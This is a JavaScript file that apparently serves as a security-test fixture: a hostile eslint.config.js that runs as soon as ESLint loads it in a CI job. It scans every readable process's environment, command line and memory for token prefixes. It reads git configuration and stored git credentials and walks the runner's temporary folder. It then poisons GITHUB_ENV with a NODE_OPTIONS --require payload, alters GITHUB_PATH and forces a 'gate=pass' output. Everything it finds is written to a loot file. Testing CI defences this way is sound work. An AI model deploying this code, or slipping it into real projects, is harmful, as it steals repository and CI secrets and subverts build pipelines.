// What a pull request's eslint.config.js can do as it is loaded: read what every process of its
// user shows in /proc, the checkout's git configuration, the user's git credentials and the
// runner's temporary folder, and write the runner's file commands. Everything found goes to
// the file LOOT names; the test looks there for the secrets it gave the bot.
"use strict";
const fs = require("fs");
const path = require("path");
const { execFileSync } = require("child_process");

const LOOT = "@LOOT@";
const MARKERS = ["ghs_", "glpat-", "glcbt-", "eyJ"].map((m) => Buffer.from(m));
const out = [];
const note = (what, data) => out.push(`== ${what}\n${String(data).replace(/\0/g, "\n")}`);
const attempt = (what, read) => {
  try { note(what, read()); } catch (e) { note(what, `refused: ${e.code || e.message}`); }
};

function scanMemory(pid) {
  const maps = fs.readFileSync(`/proc/${pid}/maps`, "utf8").split("\n");
  const fd = fs.openSync(`/proc/${pid}/mem`, "r");
  const hits = [];
  let total = 0;
  try {
    for (const line of maps) {
      const m = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line);
      if (!m || line.includes("[vvar]") || line.includes("[vsyscall]")) continue;
      const start = Number.parseInt(m[1], 16), end = Number.parseInt(m[2], 16);
      for (let at = start; at < end && total < 512 * 1024 * 1024; at += 1 << 20) {
        const buf = Buffer.alloc(Math.min(1 << 20, end - at));
        let n = 0;
        try { n = fs.readSync(fd, buf, 0, buf.length, at); } catch { break; }
        total += n;
        for (const marker of MARKERS) {
          for (let i = buf.indexOf(marker); i >= 0 && i < n && hits.length < 400; i = buf.indexOf(marker, i + 1)) {
            hits.push(buf.subarray(i, Math.min(n, i + 80)).toString("latin1"));
          }
        }
      }
    }
  } finally { fs.closeSync(fd); }
  return `${total} bytes read\n${hits.join("\n")}`;
}

function walk(dir, depth) {
  let text = "";
  for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, entry.name);
    if (entry.isDirectory() && depth < 4) text += walk(p, depth + 1);
    else if (entry.isFile()) {
      try { text += `-- ${p}\n${fs.readFileSync(p).subarray(0, 65536).toString("latin1")}\n`; }
      catch (e) { text += `-- ${p}: ${e.code}\n`; }
    }
  }
  return text;
}

function fileCommands() {
  const found = {};
  const names = { GITHUB_ENV: "set_env_", GITHUB_PATH: "add_path_", GITHUB_OUTPUT: "set_output_" };
  const folder = process.env.RUNNER_TEMP && path.join(process.env.RUNNER_TEMP, "_runner_file_commands");
  for (const [name, prefix] of Object.entries(names)) {
    found[name] = process.env[name]
      || (folder && fs.existsSync(folder) && fs.readdirSync(folder).filter((f) => f.startsWith(prefix))
        .map((f) => path.join(folder, f))[0]);
  }
  return found;
}

note("attack ran", `eslint.config.js as uid ${process.getuid()} in ${process.cwd()}`);
for (const pid of fs.readdirSync("/proc").filter((p) => /^\d+$/.test(p) && p !== String(process.pid))) {
  attempt(`environ ${pid}`, () => fs.readFileSync(`/proc/${pid}/environ`));
  attempt(`cmdline ${pid}`, () => fs.readFileSync(`/proc/${pid}/cmdline`));
  attempt(`mem ${pid}`, () => scanMemory(pid));
}
attempt("git config", () => execFileSync("git", ["config", "--list", "--show-origin"], { encoding: "utf8" }));
attempt(".git/config", () => fs.readFileSync(path.join(process.cwd(), ".git", "config")));
const home = process.env.HOME || require("os").homedir();
attempt("~/.git-credentials", () => fs.readFileSync(path.join(home, ".git-credentials")));
attempt("~/.config/git/credentials", () => fs.readFileSync(path.join(home, ".config", "git", "credentials")));
attempt("runner temp", () => walk(process.env.RUNNER_TEMP || "/tmp", 0));
const poison = { GITHUB_ENV: "NODE_OPTIONS=--require=/tmp/pwned.js\n", GITHUB_PATH: "/tmp/pwned-bin\n",
                 GITHUB_OUTPUT: "gate=pass\n" };
for (const [name, file] of Object.entries(fileCommands())) {
  attempt(`write ${name}`, () => { fs.appendFileSync(file, poison[name]); return `wrote ${file}`; });
}
fs.appendFileSync(LOOT, out.join("\n") + "\n");

module.exports = [];
